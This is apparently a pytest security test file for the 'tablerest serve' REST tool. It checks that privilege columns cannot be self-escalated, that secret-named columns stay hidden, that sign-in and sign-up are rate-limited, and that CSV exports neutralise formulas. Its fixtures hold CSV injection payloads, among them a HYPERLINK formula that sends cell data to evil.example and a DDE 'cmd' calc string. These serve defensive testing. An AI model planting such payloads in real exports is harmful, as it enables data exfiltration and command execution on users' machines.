"""What ``tablerest serve`` does when it is not told: safe defaults (issue 17).

- item 11: a policy file that leaves the auth table out (or names it only in part) does not
  hand it ``[default]``: nobody changes anyone's password or roles;
- item 19: privilege columns of the users table (``is_admin``, ``roles``, ...) are read-only
  unless ``role(admin)``: no signing up as an admin on the demo, no promoting oneself;
- item 12: columns whose names say they hold secrets are not served, anywhere, unless shown;
- item 4: sign-in and sign-up are rate-limited by default;
- item 6: CSV exports neutralise cells that a spreadsheet would run as formulas.

Each attack goes through HTTP: the app ``tablerest serve`` builds (its factory, captured from
the command) or ``create_app`` behind Flask's test client.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import uuid
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from flask import Flask
from flask.testing import FlaskClient

from tablerest import cli
from tablerest.auth.policyfile import load_policy
from tablerest.demo.build import ensure_demo
from tablerest.mount.ratelimit import RateLimits
from tablerest.reflect.tables import looks_secret
from tablerest.server import create_app, hidden_secrets
from tests.databases import REDIS_URL, reachable_redis
from tests.helpers import problem
from tests.security.conftest import FAST

SECRET = "serve-defaults-tests-" + "k" * 32


# -- fixtures ------------------------------------------------------------------------------


@pytest.fixture
def database(tmp_path: Path) -> Path:
    """A database made for another application: users with hashes and privilege columns,
    accounts with secrets in them, and notes with text a spreadsheet would run."""
    path = tmp_path / "app.db"
    with sqlite3.connect(path) as conn:
        conn.executescript(
            """
            CREATE TABLE users (id INTEGER PRIMARY KEY, username TEXT UNIQUE NOT NULL,
                                email TEXT NOT NULL, password TEXT NOT NULL,
                                roles TEXT NOT NULL DEFAULT '',
                                is_admin BOOLEAN NOT NULL DEFAULT 0,
                                email_verified BOOLEAN NOT NULL DEFAULT 0,
                                api_token TEXT);
            CREATE TABLE accounts (id INTEGER PRIMARY KEY, name TEXT NOT NULL,
                                   password_hash TEXT, reset_token TEXT, api_key TEXT,
                                   "clientSecret" TEXT, token_count INTEGER, secretary TEXT);
            CREATE TABLE notes (id INTEGER PRIMARY KEY, title TEXT NOT NULL,
                                amount INTEGER, price NUMERIC(8, 2),
                                user_id INTEGER REFERENCES users(id));
            """
        )
        conn.executemany(
            "INSERT INTO users (username, email, password, roles, is_admin, api_token) "
            "VALUES (?, ?, ?, ?, ?, ?)",
            [
                ("ann", "ann@example.org", FAST.hash("ann-pw"), "admin", 1, "tok-ann"),
                ("bob", "bob@example.org", FAST.hash("bob-pw"), "", 0, "tok-bob"),
            ],
        )
        conn.execute(
            'INSERT INTO accounts (name, password_hash, reset_token, api_key, "clientSecret", '
            "token_count, secretary) VALUES ('acme', '$argon2id$v=19$m=65536,t=3,p=4$abc', "
            "'reset-123', 'key-456', 'cs-789', 7, 'Moneypenny')"
        )
    conn.close()
    return path


def rows(database: Path, sql: str) -> list[tuple[Any, ...]]:
    """Read the database around the API."""
    with sqlite3.connect(database) as conn:
        found = conn.execute(sql).fetchall()
    conn.close()
    return found


def write_policy(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "policy.toml"
    path.write_text(text)
    return path


def served(database: Path, **options: Any) -> FlaskClient:
    options.setdefault("secret_key", SECRET)
    app: Flask = create_app(str(database), **options)
    app.config["TESTING"] = True
    return app.test_client()


def serve(monkeypatch: pytest.MonkeyPatch, *args: str) -> tuple[FlaskClient, Result]:
    """What ``tablerest serve ARGS`` would serve (one worker's app), and what it printed."""
    captured: dict[str, Any] = {}

    def fake_run(factory: Any, **options: Any) -> None:
        captured["factory"] = factory

    monkeypatch.setattr(cli.serve, "run", fake_run)
    # One worker: metrics in this process (an empty directory would put files in the cwd).
    monkeypatch.delenv("PROMETHEUS_MULTIPROC_DIR", raising=False)
    # Counters in this process's memory: each test starts from zero.
    monkeypatch.delenv("TABLEREST_REDIS_URL", raising=False)
    monkeypatch.setenv("TABLEREST_SECRET_KEY", SECRET)
    result = CliRunner().invoke(cli.main, ["serve", *args])
    assert result.exit_code == 0, result.output
    app: Flask = captured["factory"]()
    app.config["TESTING"] = True
    return app.test_client(), result


def refused(monkeypatch: pytest.MonkeyPatch, *args: str) -> str:
    monkeypatch.setattr(cli.serve, "run", lambda factory, **options: pytest.fail("it served"))
    result = CliRunner().invoke(cli.main, ["serve", *args])
    assert result.exit_code != 0
    return result.output


def sign_in(client: FlaskClient, name: str, password: str | None = None) -> dict[str, str]:
    form = {"username": name, "password": password or f"{name}-pw"}
    resp = client.post("/api/auth/token", data=form)
    assert resp.status_code == 200, resp.get_data(as_text=True)
    return {"Authorization": f"Bearer {resp.get_json()['access_token']}"}


def batch(client: FlaskClient, *operations: dict[str, Any], **kw: Any) -> Any:
    return client.post("/api/batch", json={"operations": list(operations)}, **kw)


JSONAPI = "application/vnd.api+json"


def jsonapi_error(resp: Any, status: int) -> dict[str, Any]:
    """Assert ``resp`` is a JSON:API error document with ``status``; return its first error."""
    assert resp.status_code == status, (resp.status_code, resp.get_data(as_text=True))
    assert resp.mimetype == JSONAPI
    error: dict[str, Any] = resp.get_json()["errors"][0]
    assert error["status"] == str(status)
    return error


def jsonapi_refused(resp: Any, status: int) -> None:
    """A JSON:API request refused with ``status`` (a JSON:API or problem document)."""
    if resp.mimetype == JSONAPI:
        jsonapi_error(resp, status)
    else:
        problem(resp, status)


# -- item 11: the auth table is not [default]'s ------------------------------------------


OPEN_DEFAULT = """
[auth]
table = "users"
login = ["username"]
roles = "roles"

[default]
all = "public"
"""


def test_a_policy_without_a_users_section_gives_users_the_safe_rules(
    database: Path, tmp_path: Path
) -> None:
    client = served(database, policy=load_policy(write_policy(tmp_path, OPEN_DEFAULT)))
    before = rows(database, "SELECT * FROM users ORDER BY id")
    # [default] all = "public" is for the other tables: anyone writes notes ...
    assert client.post("/api/notes", json={"title": "hello"}).status_code == 201
    # ... but nobody anonymous changes a user, by any route or verb.
    for body in ({"password": "owned"}, {"roles": "admin"}, {"is_admin": True}):
        problem(client.patch("/api/users/2", json=body), 401)
    full = {"username": "bob", "email": "x@evil.example", "password": "owned", "roles": "admin"}
    problem(client.put("/api/users/2", json=full), 401)
    problem(client.delete("/api/users/2"), 401)
    problem(client.patch("/api/users", json=[{"id": 2, "password": "owned"}]), 401)
    doc = {"data": {"type": "users", "id": "2", "attributes": {"roles": "admin"}}}
    jsonapi_refused(client.patch("/api/users/2", json=doc, headers={"Content-Type": JSONAPI}), 401)
    body = problem(batch(client, {"op": "update", "resource": "users", "key": 2,
                                  "data": {"password": "owned"}}), 401)  # fmt: skip
    assert "nothing was changed" in body["detail"]
    problem(client.get("/api/users"), 401)  # list: admins only, not [default]'s public
    assert rows(database, "SELECT * FROM users ORDER BY id") == before
    # A user still changes their own row, and an admin anyone's.
    bob = sign_in(client, "bob")
    assert (
        client.patch("/api/users/2", json={"email": "b@example.org"}, headers=bob).status_code
        == 200
    )
    problem(client.patch("/api/users/1", json={"email": "x@evil.example"}, headers=bob), 404)
    ann = sign_in(client, "ann")
    assert client.patch("/api/users/2", json={"roles": "editor"}, headers=ann).status_code == 200
    assert rows(database, "SELECT email, roles FROM users WHERE id = 2") == [
        ("b@example.org", "editor")
    ]


def test_a_users_section_without_actions_does_not_fall_back_to_default(
    database: Path, tmp_path: Path
) -> None:
    text = OPEN_DEFAULT + '\n[tables.users]\nhidden_unless = { email = "role(admin)" }\n'
    client = served(database, policy=load_policy(write_policy(tmp_path, text)))
    problem(client.patch("/api/users/2", json={"password": "owned"}), 401)
    problem(client.delete("/api/users/2"), 401)
    bob = sign_in(client, "bob")
    assert "email" not in client.get("/api/users/2", headers=bob).get_json()
    assert rows(database, "SELECT count(*) FROM users") == [(2,)]


NAMED_USERS = """
[auth]
table = "users"
login = ["username"]
roles = "roles"

[default]
all = "authenticated"

[tables.users]
all = "owner(id) | role(admin)"
create = "public"
"""


def test_the_roles_column_is_read_only_for_non_admins_when_the_policy_is_silent(
    database: Path, tmp_path: Path
) -> None:
    client = served(database, policy=load_policy(write_policy(tmp_path, NAMED_USERS)))
    bob = sign_in(client, "bob")
    body = problem(client.patch("/api/users/2", json={"roles": "admin"}, headers=bob), 422)
    assert body["errors"][0]["pointer"] == "/roles"
    problem(client.patch("/api/users/2", json={"is_admin": True}, headers=bob), 422)
    problem(client.patch("/api/users/2", json={"email_verified": True}, headers=bob), 422)
    doc = {"data": {"type": "users", "id": "2", "attributes": {"roles": "admin"}}}
    headers = {**bob, "Content-Type": JSONAPI}
    error = jsonapi_error(client.patch("/api/users/2", json=doc, headers=headers), 422)
    assert error["source"]["pointer"] == "/data/attributes/roles"
    body = problem(batch(client, {"op": "update", "resource": "users", "key": 2,
                                  "data": {"roles": "admin"}}, headers=bob), 422)  # fmt: skip
    assert body["errors"][0]["pointer"] == "/operations/0/data/roles"
    signup = {
        "username": "eve",
        "email": "eve@evil.example",
        "password": "eve-password",
        "roles": "admin",
    }
    problem(client.post("/api/users", json=signup), 422)
    assert rows(database, "SELECT roles, is_admin, email_verified FROM users WHERE id = 2") == [
        ("", 0, 0)
    ]
    assert rows(database, "SELECT count(*) FROM users") == [(2,)]
    # The admin may; the rule is role(admin), not nobody.
    ann = sign_in(client, "ann")
    resp = client.patch("/api/users/2", json={"roles": "editor", "is_admin": True}, headers=ann)
    assert resp.status_code == 200, resp.get_data(as_text=True)


def test_the_policy_can_still_open_a_privilege_column(database: Path, tmp_path: Path) -> None:
    text = NAMED_USERS + 'read_only_unless = { roles = "authenticated" }\n'
    client = served(database, policy=load_policy(write_policy(tmp_path, text)))
    bob = sign_in(client, "bob")
    assert client.patch("/api/users/2", json={"roles": "editor"}, headers=bob).status_code == 200
    problem(client.patch("/api/users/2", json={"is_admin": True}, headers=bob), 422)
    assert rows(database, "SELECT roles, is_admin FROM users WHERE id = 2") == [("editor", 0)]


# -- item 19: the demo's users cannot make themselves admins --------------------------------


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return ensure_demo(tmp_path_factory.mktemp("demo") / "demo.sqlite3")


@pytest.fixture
def demo(
    demo_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> tuple[FlaskClient, Path]:
    copy = tmp_path / "demo.sqlite3"
    copy.write_bytes(demo_file.read_bytes())
    monkeypatch.setenv("TABLEREST_DEMO_PATH", str(copy))
    client, _ = serve(monkeypatch, "--auth-table", "users", "--no-changes")
    return client, copy


def test_demo_sign_up_cannot_set_is_admin(demo: tuple[FlaskClient, Path]) -> None:
    client, path = demo
    signup = {"username": "eve", "email": "eve@evil.example", "password": "eve-password"}
    body = problem(client.post("/api/users", json={**signup, "is_admin": True}), 422)
    assert [e["pointer"] for e in body["errors"]] == ["/is_admin"]
    problem(client.post("/api/users", data={**signup, "is_admin": "true"}), 422)
    body = problem(batch(client, {"op": "create", "resource": "users",
                                  "data": {**signup, "is_admin": True}}), 422)  # fmt: skip
    assert rows(path, "SELECT count(*) FROM users WHERE username = 'eve'") == [(0,)]
    # Without it, sign-up works and the account is not an admin.
    created = client.post("/api/users", json=signup)
    assert created.status_code == 201, created.get_data(as_text=True)
    assert created.get_json()["is_admin"] is False
    assert rows(path, "SELECT is_admin FROM users WHERE username = 'eve'") == [(0,)]


def test_demo_users_cannot_flip_their_own_is_admin(demo: tuple[FlaskClient, Path]) -> None:
    client, path = demo
    signup = {"username": "mal", "email": "mal@evil.example", "password": "mal-password"}
    uid = client.post("/api/users", json=signup).get_json()["id"]
    mal = sign_in(client, "mal", "mal-password")
    body = problem(client.patch(f"/api/users/{uid}", json={"is_admin": True}, headers=mal), 422)
    assert body["errors"][0]["pointer"] == "/is_admin"
    full = {**signup, "is_admin": True}
    problem(client.put(f"/api/users/{uid}", json=full, headers=mal), 422)
    doc = {"data": {"type": "users", "id": str(uid), "attributes": {"is_admin": True}}}
    headers = {**mal, "Content-Type": JSONAPI}
    jsonapi_refused(client.patch(f"/api/users/{uid}", json=doc, headers=headers), 422)
    problem(batch(client, {"op": "update", "resource": "users", "key": uid,
                           "data": {"is_admin": True}}, headers=mal), 422)  # fmt: skip
    assert rows(path, f"SELECT is_admin FROM users WHERE id = {uid}") == [(0,)]
    # Their other fields stay theirs to change.
    resp = client.patch(f"/api/users/{uid}", json={"email": "mal@example.org"}, headers=mal)
    assert resp.status_code == 200


# -- item 12: columns that say they hold secrets are not served ------------------------------


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("password", True),
        ("passwd", True),
        ("hashed_password", True),
        ("password_hash", True),
        ("passwordHash", True),
        ("password_digest", True),
        ("hash", True),
        ("pin_hash", True),
        ("salt", True),
        ("secret", True),
        ("client_secret", True),
        ("secret_key", True),
        ("Secret Answer", True),
        ("token", True),
        ("access_token", True),
        ("ApiToken", True),
        ("api_key", True),
        ("apikey", True),
        ("APIKey", True),
        ("private_key", True),
        ("aws_secret_access_key", True),
        ("username", False),
        ("email", False),
        ("secretary", False),
        ("token_count", False),
        ("tokenizer", False),
        ("hash_algorithm", False),
        ("keyboard", False),
        ("title", False),
    ],
)
def test_which_names_look_secret(name: str, secret: bool) -> None:
    assert looks_secret(name) is secret


HIDDEN = ["password_hash", "reset_token", "api_key", "clientSecret"]


def test_secret_columns_are_not_served_anywhere(database: Path) -> None:
    client = served(database)
    row = client.get("/api/accounts/1").get_json()
    assert row == {"id": 1, "name": "acme", "token_count": 7, "secretary": "Moneypenny"}
    listed = client.get("/api/accounts").get_json()["data"]
    assert all(not set(HIDDEN) & set(r) for r in listed)
    for name in HIDDEN:
        problem(client.get(f"/api/accounts?filter[{name}]=reset-123"), 400)
        problem(client.get(f"/api/accounts?{name}=key-456"), 400)
        problem(client.get(f"/api/accounts?sort={name}"), 400)
        problem(client.get(f"/api/accounts?fields={name}"), 400)
        problem(client.get(f"/api/accounts?group_by={name}&aggregate=count()"), 400)
        # Nor written: an unknown field.
        problem(client.patch("/api/accounts/1", json={name: "x"}), 422)
    export = client.get("/api/accounts?format=csv").get_data(as_text=True)
    assert "reset-123" not in export
    assert "key-456" not in export
    assert "$argon2id" not in export
    ndjson = client.get("/api/accounts?format=ndjson").get_data(as_text=True)
    assert "reset-123" not in ndjson
    assert "cs-789" not in ndjson
    jsonapi = client.get("/api/accounts/1", headers={"Accept": JSONAPI}).get_json()
    assert not set(HIDDEN) & set(jsonapi["data"]["attributes"])
    schema = client.get("/api/openapi.json").get_data(as_text=True)
    assert all(f'"{name}"' not in schema for name in HIDDEN)
    index = client.get("/api").get_data(as_text=True)
    assert all(f'"{name}"' not in index for name in HIDDEN)
    # users has no auth here: its password and api_token are secrets like any other.
    assert set(client.get("/api/users/1").get_json()) == {
        "id", "username", "email", "roles", "is_admin", "email_verified",
    }  # fmt: skip
    assert rows(database, "SELECT api_key FROM accounts") == [("key-456",)]


def test_serve_warns_of_the_columns_it_hides(
    database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, result = serve(monkeypatch, str(database))
    expected = ["accounts.password_hash", "accounts.reset_token", "accounts.api_key",
                "accounts.clientSecret", "users.password", "users.api_token"]  # fmt: skip
    assert hidden_secrets(client.application) == expected
    assert "warning: not serving 6 column(s)" in result.output
    assert ", ".join(expected) in result.output
    assert "--show TABLE.COLUMN" in result.output


def test_hide_and_show_options(database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    client, result = serve(
        monkeypatch, str(database), "--hide", "accounts.name", "--hide", "notes.price",
        "--show", "accounts.api_key",
    )  # fmt: skip
    row = client.get("/api/accounts/1").get_json()
    assert row == {"id": 1, "api_key": "key-456", "token_count": 7, "secretary": "Moneypenny"}
    problem(client.get("/api/accounts?filter[name]=acme"), 400)
    problem(client.get("/api/notes?sort=price"), 400)
    assert '"price"' not in client.get("/api/openapi.json").get_data(as_text=True)
    assert "accounts.api_key" not in result.output


def test_the_policy_file_hides_and_shows_too(database: Path, tmp_path: Path) -> None:
    text = '[tables.accounts]\nhidden = ["secretary"]\nshown = ["reset_token"]\n'
    client = served(database, policy=load_policy(write_policy(tmp_path, text)))
    row = client.get("/api/accounts/1").get_json()
    assert row == {"id": 1, "name": "acme", "reset_token": "reset-123", "token_count": 7}
    problem(client.get("/api/accounts?sort=secretary"), 400)


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--hide", "nosuch.name"], "unknown tables: ['nosuch']"),
        (["--hide", "accounts.nosuch"], "unknown columns ['nosuch']"),
        (["--show", "accounts.nosuch"], "unknown columns of accounts: ['nosuch']"),
        (["--hide", "accounts"], "is not TABLE.COLUMN"),
        (["--hide", "accounts.api_key", "--show", "accounts.api_key"], "both hidden and shown"),
    ],
)
def test_a_misspelt_hide_or_show_stops_serve(
    database: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], says: str
) -> None:
    assert says in refused(monkeypatch, str(database), *args)


def test_the_auth_tables_password_stays_write_only_and_hashed(
    database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, result = serve(monkeypatch, str(database), "--auth-table", "users",
                           "--auth-roles", "roles")  # fmt: skip
    # The password column is auth's (write-only), not a hidden one: sign-up sets it.
    signup = {"username": "cy", "email": "cy@example.org", "password": "cy-password"}
    created = client.post("/api/users", json=signup)
    assert created.status_code == 201, created.get_data(as_text=True)
    assert "password" not in created.get_json()
    assert "api_token" not in created.get_json()  # another secret: hidden
    stored = rows(database, "SELECT password FROM users WHERE username = 'cy'")[0][0]
    assert stored.startswith("$argon2id$")
    cy = sign_in(client, "cy", "cy-password")
    me = client.get("/api/auth/me", headers=cy).get_json()
    assert not {"password", "api_token"} & set(me)
    problem(client.get("/api/users?sort=password", headers=sign_in(client, "ann")), 400)
    assert "users.password," not in result.output
    assert "users.api_token" in result.output


def test_only_the_password_column_auth_takes_is_served_to_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "legacy.db"
    with sqlite3.connect(path) as conn:
        conn.execute(
            "CREATE TABLE users (id INTEGER PRIMARY KEY, username TEXT UNIQUE NOT NULL, "
            "password TEXT NOT NULL, password_hash TEXT)"
        )
        conn.execute(
            "INSERT INTO users (username, password, password_hash) VALUES (?, ?, ?)",
            ("ann", FAST.hash("ann-pw"), "$2b$12$legacy-bcrypt-hash"),
        )
    conn.close()
    client, result = serve(monkeypatch, str(path), "--auth-table", "users")
    ann = sign_in(client, "ann")
    assert client.get("/api/users/1", headers=ann).get_json() == {"id": 1, "username": "ann"}
    problem(client.get("/api/users/1?fields=password_hash", headers=ann), 400)
    assert "users.password_hash" in result.output


# -- item 4: sign-in and sign-up limits ----------------------------------------------------


def _guess(client: FlaskClient, login: str, addr: str = "127.0.0.1") -> Any:
    return client.post(
        "/api/auth/token",
        data={"username": login, "password": "guess"},
        environ_base={"REMOTE_ADDR": addr},
    )


def test_sign_in_is_limited_by_default(database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    client, result = serve(monkeypatch, str(database), "--auth-table", "users")
    assert "sign-in 10/minute" in result.output
    for _ in range(10):
        problem(_guess(client, "bob"), 401)
    over = _guess(client, "bob")
    body = problem(over, 429)
    assert body["type"] == "urn:tablerest:problem:too-many-requests"
    assert 0 < int(over.headers["Retry-After"]) <= 60
    # The right password does not get through either, from that address.
    problem(client.post("/api/auth/token", data={"username": "bob", "password": "bob-pw"}), 429)
    # Refreshing has a budget of its own, as limited.
    for _ in range(10):
        problem(client.post("/api/auth/refresh", data={"refresh_token": "x"}), 401)
    problem(client.post("/api/auth/refresh", data={"refresh_token": "x"}), 429)


def test_sign_in_is_limited_per_login_from_many_addresses(
    database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, _ = serve(monkeypatch, str(database), "--auth-table", "users")
    for i in range(10):
        problem(_guess(client, "ann", f"10.0.0.{i}"), 401)
    problem(_guess(client, "ann", "10.0.1.1"), 429)
    problem(_guess(client, " ANN ", "10.0.1.2"), 429)  # the same login, written otherwise
    # Another account from a fresh address is not affected.
    assert (
        client.post(
            "/api/auth/token",
            data={"username": "bob", "password": "bob-pw"},
            environ_base={"REMOTE_ADDR": "10.0.2.1"},
        ).status_code
        == 200
    )


def test_sign_in_limit_can_be_tuned_or_turned_off(
    database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, _ = serve(monkeypatch, str(database), "--auth-table", "users",
                      "--rate-limit-sign-in", "2/minute")  # fmt: skip
    problem(_guess(client, "bob"), 401)
    problem(_guess(client, "bob"), 401)
    problem(_guess(client, "bob"), 429)
    client, result = serve(monkeypatch, str(database), "--auth-table", "users",
                           "--rate-limit-sign-in", "off")  # fmt: skip
    assert "sign-in unlimited" in result.output
    for _ in range(12):
        problem(_guess(client, "bob"), 401)


def _signup(n: int) -> dict[str, str]:
    return {"username": f"new{n}", "email": f"new{n}@example.org", "password": f"password-{n}"}


def test_sign_up_is_limited_per_address_by_default(
    database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, result = serve(monkeypatch, str(database), "--auth-table", "users")
    assert "sign-up 10/hour" in result.output
    for n in range(10):
        assert client.post("/api/users", json=_signup(n)).status_code == 201
    over = client.post("/api/users", json=_signup(10))
    problem(over, 429)
    assert int(over.headers["Retry-After"]) > 0
    assert rows(database, "SELECT count(*) FROM users") == [(12,)]
    other = {"REMOTE_ADDR": "10.9.9.9"}
    assert client.post("/api/users", json=_signup(11), environ_base=other).status_code == 201


def test_every_way_of_creating_users_counts_as_sign_up(
    database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # ann is an admin (--auth-roles): she may read the users she nests in her notes (a
    # reference to a row the caller cannot read is refused, even one made in the same write).
    client, _ = serve(monkeypatch, str(database), "--auth-table", "users", "--auth-roles",
                      "roles", "--rate-limit-sign-up", "3/hour")  # fmt: skip
    # An array is one request but as many accounts: all or nothing.
    problem(client.post("/api/users", json=[_signup(n) for n in range(4)]), 429)
    assert rows(database, "SELECT count(*) FROM users") == [(2,)]
    # A batch, and JSON:API, count the same way.
    at = {"REMOTE_ADDR": "10.1.1.1"}
    ops = [{"op": "create", "resource": "users", "data": _signup(n)} for n in range(10, 14)]
    over = batch(client, *ops, environ_base=at)
    body = problem(over, 429)
    assert "nothing was changed" in body["detail"]
    assert int(over.headers["Retry-After"]) > 0
    assert rows(database, "SELECT count(*) FROM users") == [(2,)]
    at = {"REMOTE_ADDR": "10.1.1.2"}
    for n in range(20, 23):
        doc = {"data": {"type": "users", "attributes": _signup(n)}}
        resp = client.post("/api/users", json=doc, headers={"Content-Type": JSONAPI},
                           environ_base=at)  # fmt: skip
        assert resp.status_code == 201, resp.get_data(as_text=True)
    doc = {"data": {"type": "users", "attributes": _signup(23)}}
    jsonapi_refused(client.post("/api/users", json=doc, headers={"Content-Type": JSONAPI},
                        environ_base=at), 429)  # fmt: skip
    assert rows(database, "SELECT count(*) FROM users") == [(5,)]
    # An upsert that creates users, and users nested in another row's create, count too.
    at = {"REMOTE_ADDR": "10.1.1.3"}
    upsert = [_signup(n) for n in range(30, 34)]
    problem(client.post("/api/users?on_conflict=username", json=upsert, environ_base=at), 429)
    ann = sign_in(client, "ann")
    at = {"REMOTE_ADDR": "10.1.1.4"}
    for n in range(40, 43):
        note = {"title": f"by new{n}", "user": _signup(n)}
        resp = client.post("/api/notes", json=note, headers=ann, environ_base=at)
        assert resp.status_code == 201, resp.get_data(as_text=True)
    note = {"title": "one too many", "user": _signup(43)}
    problem(client.post("/api/notes", json=note, headers=ann, environ_base=at), 429)
    assert rows(database, "SELECT count(*) FROM users") == [(8,)]
    assert rows(database, "SELECT count(*) FROM notes WHERE title = 'one too many'") == [(0,)]
    # Writes to other tables are not sign-ups.
    for n in range(5):
        assert client.post("/api/notes", json={"title": f"n{n}"}, headers=ann).status_code == 201


def test_sign_up_limit_can_be_turned_off(database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    client, _ = serve(monkeypatch, str(database), "--auth-table", "users",
                      "--rate-limit-sign-up", "off")  # fmt: skip
    resp = client.post("/api/users", json=[_signup(n) for n in range(15)])
    assert resp.status_code == 201, resp.get_data(as_text=True)


def test_the_general_limit_is_off_unless_asked(
    database: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, _ = serve(monkeypatch, str(database))
    for _ in range(30):
        assert client.get("/api/notes").status_code == 200
    client, _ = serve(monkeypatch, str(database), "--rate-limit", "3/minute")
    for _ in range(3):
        assert client.get("/api/notes").status_code == 200
    problem(client.get("/api/notes"), 429)


@pytest.mark.parametrize("option", ["--rate-limit-sign-in", "--rate-limit-sign-up", "--rate-limit"])
def test_a_bad_limit_stops_serve(
    database: Path, monkeypatch: pytest.MonkeyPatch, option: str
) -> None:
    assert "is not a rate limit" in refused(monkeypatch, str(database), option, "lots")


def test_sign_up_counters_are_shared_through_redis(database: Path) -> None:
    if not reachable_redis():
        pytest.skip("no Redis at " + REDIS_URL)
    limits = RateLimits(
        anonymous=None, user=None, sign_up="2/hour", storage_uri=REDIS_URL,
        key_prefix=f"test-{uuid.uuid4().hex}",
    )  # fmt: skip
    from tablerest.auth.policyfile import PolicyFile

    policy = PolicyFile({"table": "users"})
    one = served(database, policy=policy, rate_limits=limits)
    two = served(database, policy=policy, rate_limits=limits)  # another worker
    assert one.post("/api/users", json=_signup(1)).status_code == 201
    assert two.post("/api/users", json=_signup(2)).status_code == 201
    problem(one.post("/api/users", json=_signup(3)), 429)
    problem(two.post("/api/users", json=_signup(4)), 429)


# -- item 6: CSV formula injection ---------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "-5",  # text that looks like a number is still text
]


@pytest.fixture
def notes(database: Path) -> Path:
    with sqlite3.connect(database) as conn:
        conn.execute("ALTER TABLE notes ADD COLUMN \"=cmd|' /C calc'!A0\" TEXT")
        conn.executemany(
            "INSERT INTO notes (title, amount, price, user_id) VALUES (?, ?, ?, 2)",
            [(text, -5, "-2.50") for text in FORMULAS] + [('plain, "quoted"', 3, "1.00")],
        )
    conn.close()
    return database


def parsed(resp: Any) -> list[list[str]]:
    assert resp.status_code == 200, resp.get_data(as_text=True)
    assert resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True), newline="")))


def test_csv_export_neutralises_formulas(notes: Path) -> None:
    client = served(notes)
    resp = client.get("/api/notes?sort=id&fields=id,title,amount,price")
    header, *cells = parsed(client.get("/api/notes?sort=id&format=csv"))
    assert header == ["id", "title", "amount", "price", "user_id", "'=cmd|' /C calc'!A0"]
    titles = [row[1] for row in cells]
    assert titles == ["'" + text for text in FORMULAS] + ['plain, "quoted"']
    # Numbers are numbers, negative ones too: only text is touched.
    assert {(row[2], row[3]) for row in cells[:-1]} == {("-5", "-2.50")}
    raw = client.get("/api/notes?sort=id&format=csv").get_data(as_text=True)
    assert '\r\n1,"\'=HYPERLINK(""http' in raw  # prefixed and quoted
    assert ",-5,-2.50," in raw
    # JSON and NDJSON carry the text as stored: the guard is a CSV matter.
    assert [r["title"] for r in resp.get_json()["data"]][: len(FORMULAS)] == FORMULAS
    lines = client.get("/api/notes?sort=id&format=ndjson").get_data(as_text=True).splitlines()
    assert '"title":"=HYPERLINK' in lines[0]


def test_every_csv_export_is_guarded(notes: Path) -> None:
    client = served(notes)
    related = parsed(client.get("/api/users/2/notes?sort=id&fields=id,title&format=csv"))
    assert related[1] == ["1", "'" + FORMULAS[0]]
    groups = parsed(
        client.get("/api/notes?group_by=title&aggregate=count(),sum(amount)&format=csv")
    )
    assert groups[0] == ["title", "count", "sum_amount"]
    by_title = {row[0]: row[1:] for row in groups[1:]}
    assert by_title["'@SUM(A1:A9)"] == ["1", "-5"]
    assert "@SUM(A1:A9)" not in by_title
    accept = client.get("/api/notes?sort=id&fields=title", headers={"Accept": "text/csv"})
    assert parsed(accept)[1] == ["'" + FORMULAS[0]]


def test_machine_consumers_can_turn_the_guard_off(
    notes: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    raw = served(notes, csv_formula_guard=False)
    _, *cells = parsed(raw.get("/api/notes?sort=id&fields=id,title&format=csv"))
    assert [row[1] for row in cells] == [*FORMULAS, 'plain, "quoted"']
    client, _ = serve(monkeypatch, str(notes), "--no-csv-formula-guard")
    header, *cells = parsed(client.get("/api/notes?sort=id&format=csv"))
    assert header[-1] == "=cmd|' /C calc'!A0"
    assert cells[0][1] == FORMULAS[0]
    # A client cannot turn it off: a link could send a victim to the unguarded export.
    guarded = served(notes)
    problem(guarded.get("/api/notes?format=csv&csv_formula_guard=false"), 400)


# -- issue 17 item 20: the password policy, from serve's flags and the policy file ----------


def _sign_up(client: FlaskClient, password: str) -> Any:
    name = f"u{uuid.uuid4().hex[:8]}"
    body = {"username": name, "email": f"{name}@example.org", "password": password}
    return client.post("/api/users", json=body)


def test_serve_takes_the_password_policy_from_flags_and_the_policy_file(
    database: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    client, _ = serve(monkeypatch, str(database), "--auth-table", "users")
    body = problem(_sign_up(client, "short"), 422)
    assert body["errors"][0]["pointer"] == "/password"
    assert _sign_up(client, "long enough").status_code == 201
    client, _ = serve(monkeypatch, str(database), "--auth-table", "users",
                      "--auth-min-password-length", "12", "--auth-max-password-bytes", "16",
                      "--rate-limit-sign-up", "off")  # fmt: skip
    problem(_sign_up(client, "eleven char"), 422)
    problem(_sign_up(client, "seventeen chars!!"), 422)
    assert _sign_up(client, "twelve chars").status_code == 201
    text = NAMED_USERS.replace('roles = "roles"', 'roles = "roles"\nmin_password_length = 20')
    client = served(database, policy=load_policy(write_policy(tmp_path, text)))
    problem(_sign_up(client, "nineteen characters"), 422)
    assert _sign_up(client, "twenty characters!!!").status_code == 201


def test_a_bad_password_policy_stops_serve(
